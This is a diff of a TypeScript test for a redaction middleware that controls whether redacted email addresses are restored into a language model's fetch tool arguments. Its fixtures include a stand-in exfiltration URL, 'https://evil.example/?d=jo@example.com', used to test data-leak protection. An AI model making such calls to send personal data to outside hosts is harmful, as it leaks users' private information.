@@ -122,10 +122,10 @@ const streamOf = (parts: readonly LanguageModelV3StreamPart[]) =>
   })
 
 test.each([
-  [{}, '{"url":"https://evil.example/?d=[EMAIL_1]","to":"jo@example.com"}'],
+  [{}, fetching.input],
   [{ restore: { fetch: true } }, '{"url":"https://evil.example/?d=jo@example.com","to":"jo@example.com"}'],
   [{ restore: { fetch: false } }, fetching.input],
-  [{ restore: { toString: true, other: true } }, '{"url":"https://evil.example/?d=[EMAIL_1]","to":"jo@example.com"}'],
+  [{ restore: { toString: true, other: true } }, fetching.input],
 ])('with %j the tool gets %s, whole and as a stream', async (options, expected) => {
   const middleware = redactionMiddleware(createRedactor(), options)
   const { hidden, content } = await call({}, [fetching], { middleware })
